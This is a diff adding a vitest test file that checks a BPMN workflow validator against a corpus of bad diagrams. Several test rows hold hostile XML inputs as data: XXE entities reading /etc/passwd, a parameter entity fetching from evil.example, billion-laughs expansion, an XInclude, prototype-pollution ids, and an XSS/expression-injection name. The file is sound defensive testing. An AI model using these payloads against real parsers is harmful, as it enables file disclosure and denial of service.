@@ -1,0 +1,190 @@
+import { describe, expect, it } from 'vitest'
+import { checkFile } from '../../../workflows/engine/check.ts'
+import { readBpmn } from '../../../workflows/model/read-bpmn.ts'
+import { rewriteBpmn } from '../../../workflows/model/write-bpmn.ts'
+
+const head = `<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" xmlns:zeebe="http://camunda.org/schema/zeebe/1.0"
+  xmlns:camunda="http://camunda.org/schema/1.0/bpmn" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" id="d" targetNamespace="urn:test">`
+
+const file = (inside: string, before = '') =>
+  `${before}${head}<bpmn:process id="p" isExecutable="true">${inside}</bpmn:process></bpmn:definitions>`
+
+const task = (id: string, more = '') => `<bpmn:task id="${id}" ${more}/>`
+const flow = (from: string, to: string, inside = '') =>
+  `<bpmn:sequenceFlow id="${from}-${to}" sourceRef="${from}" targetRef="${to}">${inside}</bpmn:sequenceFlow>`
+const condition = (text: string, more = '') =>
+  `<bpmn:conditionExpression xsi:type="bpmn:tFormalExpression" ${more}>${text}</bpmn:conditionExpression>`
+
+async function problems(xml: string) {
+  const result = await readBpmn(xml)
+  return result.ok ? checkFile(result.definitions) : result.problems
+}
+
+const named = async (xml: string) => (await problems(xml)).map(({ code, elementId }) => `${code} ${elementId}`)
+
+const nested = (levels: number) =>
+  '<bpmn:subProcess id="s">'.repeat(levels).replaceAll(/id="s"/g, (_text, at: number) => `id="s${at}"`) +
+  '</bpmn:subProcess>'.repeat(levels)
+const laughs = (levels: number) =>
+  `<!DOCTYPE d [${Array.from({ length: levels }, (_, i) => `<!ENTITY l${i} "${`&l${i - 1};`.repeat(10)}">`).join('')}]>`
+
+describe('the corpus of bad diagrams (reliability 7.1): what is told, of which element', () => {
+  it.each([
+    ['B04', file(task('t', 'name="&x;"'), '<!DOCTYPE d [<!ENTITY x "boom">]>'), 'xml.doctype null'],
+    ['B05', file('', '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), 'xml.doctype null'],
+    ['B06 three levels', file('', laughs(3)), 'xml.doctype null'],
+    ['B06 nine levels', file('', laughs(9)), 'xml.doctype null'],
+    ['B07', file('', '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]>'), 'xml.doctype null'],
+    [
+      'B10',
+      file('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>'),
+      'bpmn.unknown_element p',
+    ],
+    ['B14', file(task('t')).replace('20100524/MODEL', '20100524/OTHER'), 'bpmn.namespace null'],
+    ['B14 of Camunda 8', file(task('t')).replace('schema/zeebe/1.0', 'schema/zeebe/9.9'), 'bpmn.namespace null'],
+    ['B15', file(task('a') + task('a')), 'bpmn.duplicate_id a'],
+    ['B16', file(task('a') + flow('a', 'nope')), 'bpmn.dangling_ref a-nope'],
+    ['B17', file('<bpmn:evilTask id="e"/>'), 'bpmn.unknown_element e'],
+    ['B18 __proto__', file(task('__proto__')), 'bpmn.reserved_id __proto__'],
+    ['B18 constructor', file(task('constructor')), 'bpmn.reserved_id constructor'],
+    ['B18 hasOwnProperty', file(task('hasOwnProperty')), 'bpmn.reserved_id hasOwnProperty'],
+    ['B18 toString', file(task('toString')), 'bpmn.reserved_id toString'],
+    ['B19 a path', file(task('../x')), 'bpmn.id_format ../x'],
+    ['B19 a quote', file(task('a&quot;b')), 'bpmn.id_format a"b'],
+    ['B19 an emoji', file(task('😀')), 'bpmn.id_format 😀'],
+    ['B19 text from right to left', file(task('a\u202eb')), 'bpmn.id_format a\u202eb'],
+    ['B19 ten kilobytes', file(task('x'.repeat(10_000))), `bpmn.id_format ${'x'.repeat(100)}`],
+    ['B20', file(nested(20_000)), 'bpmn.depth'],
+    [
+      'B22',
+      file(`<bpmn:task id="t" ${Array.from({ length: 5000 }, (_, i) => `a${i}="1"`).join(' ')}/>`),
+      'bpmn.unknown_attribute t',
+    ],
+    [
+      'B24 a flow into a start event',
+      file(`<bpmn:startEvent id="s"/>${task('a')}${flow('s', 'a')}${flow('a', 's')}`),
+      'bpmn.start_with_incoming s',
+    ],
+    ['B24 nowhere to begin', file(`${task('a')}${task('b')}${flow('a', 'b')}${flow('b', 'a')}`), 'bpmn.no_start p'],
+    [
+      'B25 an island',
+      file(
+        `<bpmn:startEvent id="s"/>${task('a')}${flow('s', 'a')}${task('x')}${task('y')}${flow('x', 'y')}${flow('y', 'x')}`,
+      ),
+      'bpmn.unreachable x',
+    ],
+    [
+      'B25 no way to an end',
+      file(
+        `<bpmn:startEvent id="s"/><bpmn:userTask id="a"/><bpmn:userTask id="b"/>${flow('s', 'a')}${flow('a', 'b')}${flow('b', 'a')}`,
+      ),
+      'bpmn.unreachable a',
+    ],
+    [
+      'B29 on a gateway',
+      file(
+        `<bpmn:startEvent id="s"/><bpmn:exclusiveGateway id="g"/>${flow('s', 'g')}<bpmn:boundaryEvent id="b" attachedToRef="g"><bpmn:timerEventDefinition><bpmn:timeDuration>PT1H</bpmn:timeDuration></bpmn:timerEventDefinition></bpmn:boundaryEvent>`,
+      ),
+      'bpmn.boundary_attachment b',
+    ],
+    [
+      'B29 on itself',
+      file(
+        `<bpmn:startEvent id="s"/><bpmn:boundaryEvent id="b" attachedToRef="b"><bpmn:timerEventDefinition><bpmn:timeDuration>PT1H</bpmn:timeDuration></bpmn:timerEventDefinition></bpmn:boundaryEvent>`,
+      ),
+      'bpmn.boundary_attachment b',
+    ],
+    [
+      'B29 in another scope',
+      file(
+        `<bpmn:startEvent id="s"/><bpmn:subProcess id="sub">${task('in')}</bpmn:subProcess>${flow('s', 'sub')}<bpmn:boundaryEvent id="b" attachedToRef="in"><bpmn:timerEventDefinition><bpmn:timeDuration>PT1H</bpmn:timeDuration></bpmn:timerEventDefinition></bpmn:boundaryEvent>`,
+      ),
+      'bpmn.boundary_attachment b',
+    ],
+    [
+      'B30',
+      file(
+        `<bpmn:startEvent id="s"/><bpmn:subProcess id="sub">${task('in')}${flow('in', 'out')}</bpmn:subProcess>${task('out')}${flow('s', 'sub')}`,
+      ),
+      'bpmn.flow_crosses_scope in-out',
+    ],
+    [
+      'B31 a default that leaves elsewhere',
+      file(
+        `<bpmn:startEvent id="s"/><bpmn:exclusiveGateway id="g" default="s-g"/>${task('a')}${flow('s', 'g')}${flow('g', 'a', condition('x'))}`,
+      ),
+      'bpmn.default_flow g',
+    ],
+    [
+      'B31 a condition on the default',
+      file(
+        `<bpmn:startEvent id="s"/><bpmn:exclusiveGateway id="g" default="g-a"/>${task('a')}${flow('s', 'g')}${flow('g', 'a', condition('x'))}`,
+      ),
+      'bpmn.default_with_condition g',
+    ],
+    [
+      'B32 JavaScript',
+      file('<bpmn:scriptTask id="t" scriptFormat="javascript"><bpmn:script>1</bpmn:script></bpmn:scriptTask>'),
+      'bpmn.forbidden_code t',
+    ],
+    ['B32 a class', file('<bpmn:serviceTask id="t" camunda:class="a.B"/>'), 'bpmn.forbidden_code t'],
+    [
+      'B32 a Java expression',
+      file(`${task('a')}${task('b')}${flow('a', 'b', condition('${x}'))}`),
+      'bpmn.forbidden_code a-b',
+    ],
+    [
+      'B32 XPath',
+      file(`${task('a')}${task('b')}${flow('a', 'b', condition('x', 'language="http://www.w3.org/1999/XPath"'))}`),
+      'bpmn.forbidden_code a-b',
+    ],
+    [
+      'B34',
+      file(
+        '<bpmn:task id="t"><bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality xsi:type="bpmn:tFormalExpression">1000000</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics></bpmn:task>',
+      ),
+      'mi.limit t',
+    ],
+  ])('%s', async (_row, xml, expected) => {
+    const began = performance.now()
+    const found = await named(xml)
+
+    expect(found.some((line) => line.startsWith(expected))).toBe(true)
+    expect(performance.now() - began).toBeLessThan(500)
+    expect(({} as Record<string, unknown>)['isAdmin']).toBeUndefined()
+  })
+
+  it('B32 keeps the text of the code nowhere', async () => {
+    const found = await problems(
+      file(
+        '<bpmn:scriptTask id="t" scriptFormat="javascript"><bpmn:script>stealSecrets()</bpmn:script></bpmn:scriptTask>',
+      ),
+    )
+
+    expect(JSON.stringify(found)).not.toContain('stealSecrets')
+  })
+
+  it('B33 takes what looks like code in a name as its text, and writes it escaped', async () => {
+    const name = "${''.getClass()} &lt;img src=x onerror=alert(1)&gt; =cmd()"
+
+    expect(await named(file(task('t', `name="${name}"`)))).toEqual([])
+    expect(await rewriteBpmn(file(task('t', `name="${name}"`)))).toContain('&#60;img src=x')
+  })
+
+  it('tells everything at once', async () => {
+    const xml = file(
+      `<bpmn:startEvent id="s"/><bpmn:serviceTask id="job"/><bpmn:exclusiveGateway id="g" default="s-job"/><bpmn:endEvent id="e"/>
+      ${flow('s', 'job')}${flow('job', 'g')}${flow('g', 'e', condition('1 +* 2'))}${flow('e', 's')}`,
+    )
+
+    expect(await named(xml)).toEqual(
+      expect.arrayContaining([
+        'bpmn.default_flow g',
+        'bpmn.end_with_outgoing e',
+        'bpmn.missing job',
+        'bpmn.start_with_incoming s',
+        'feel.syntax g-e',
+      ]),
+    )
+  })
+})
